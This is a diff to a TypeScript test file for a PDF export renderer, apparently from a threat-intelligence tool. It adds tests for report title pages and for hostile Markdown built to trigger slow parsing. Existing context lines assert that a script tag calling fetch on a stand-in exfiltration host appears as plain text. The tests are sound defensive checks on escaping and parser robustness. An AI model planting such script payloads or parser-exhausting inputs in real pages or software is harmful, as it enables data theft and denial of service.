@@ -3,6 +3,7 @@ import { isAppError } from '#shared/contract/errors'
 import type { ExportSet } from '#core/export/export-set'
 import { renderPdf } from '#core/export/pdf/render-pdf'
 import {
+  REPORT_MD,
   exportSet,
   indicator,
   openPdf,
@@ -11,6 +12,7 @@ import {
   reportSet,
   sink,
   statsOf,
+  threatReport,
 } from './pdf-fixture'
 
 /** All text of the document on one line per page, PDF.js's line breaks removed (wrapped cells rejoin). */
@@ -86,6 +88,33 @@ describe('renderPdf', () => {
     )
     expect(text).toContain("<script>fetch('https://exfil.example/')</script>")
     expect(text).toContain('Quoted from the vendor.')
+  })
+
+  it("shows a threat report's severity, authors and publication on the title page", async () => {
+    const report = threatReport('APT28 spring campaign', REPORT_MD)
+    const [first, second] = await pageTexts((await render(reportSet({ report }))).pdf, [1, 2])
+    expect(first).toContain('Severity: high')
+    expect(first).toContain('Authors: Ana Analyst, Rui Responder')
+    expect(first).toContain('Published: 2026-12-01')
+    expect(second).toContain('Report')
+  })
+
+  it('shows hostile Markdown (quadratic emphasis, deep nesting) as raw text in bounded time', async () => {
+    const markdown = [
+      '>'.repeat(20_000) + ' deep quote',
+      '*a'.repeat(100_000),
+      '- '.repeat(5_000) + 'deep list',
+      '# Still here',
+      'After the **hostile** blocks.',
+    ].join('\n\n')
+    const started = Date.now()
+    const { pdf } = await render(reportSet({ markdown }))
+    expect(Date.now() - started).toBeLessThan(30_000)
+    const text = flat(await pageTexts(pdf))
+    expect(text).toContain('Still here')
+    expect(text).toContain('After the hostile blocks.')
+    expect(text).toContain('deep quote')
+    expect(text).toContain('*a*a*a*a')
   })
 
   it('lists each entity with its kind, aliases, TLP and the details of its kind', async () => {
